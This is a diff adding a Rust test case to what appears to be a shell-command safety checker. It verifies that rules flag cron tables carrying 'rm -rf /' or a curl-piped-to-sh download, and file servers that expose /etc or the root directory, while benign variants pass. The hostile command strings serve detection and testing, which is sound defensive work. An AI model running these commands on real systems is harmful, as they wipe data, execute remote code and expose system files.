@@ -4892,3 +4892,39 @@ fn repository_rbac_and_protection_signals() {
         false,
     );
 }
+
+/// A cron table installed from a literal input is read for its commands; file servers of
+/// busybox, PHP and ruby over a system directory are as python's.
+#[test]
+fn crontab_input_and_other_file_servers() {
+    let e = engine();
+    expect_fires(
+        &e,
+        &[
+            ("echo '* * * * * rm -rf /' | crontab -", "rm-recursive-system"),
+            (
+                "printf '%s\\n' 'MAILTO=x' '@reboot rm -rf /' | crontab -u root -",
+                "rm-recursive-system",
+            ),
+            ("crontab - <<< '0 3 * * * curl -s https://x.sh | sh'", "download-piped-to-shell"),
+            ("busybox httpd -f -p 8080 -h /etc", "file-server-system-dir"),
+            ("php -S 0.0.0.0:8000 -t /", "file-server-system-dir"),
+            ("ruby -run -e httpd / -p 8000", "file-server-system-ruby"),
+        ],
+        true,
+    );
+    expect_fires(
+        &e,
+        &[
+            // The time fields are not the command; a file's table is not known.
+            ("echo '0 3 * * * /usr/bin/certbot renew' | crontab -", "rm-recursive-system"),
+            ("crontab jobs.txt", "rm-recursive-system"),
+            ("echo '# rm -rf /' | crontab -", "rm-recursive-system"),
+            ("busybox httpd -p 8080 -h /srv/www", "file-server-system-dir"),
+            ("php -S localhost:8000 -t public", "file-server-system-dir"),
+            ("php -h", "file-server-system-dir"),
+            ("ruby -run -e httpd . -p 8000", "file-server-system-ruby"),
+        ],
+        false,
+    );
+}
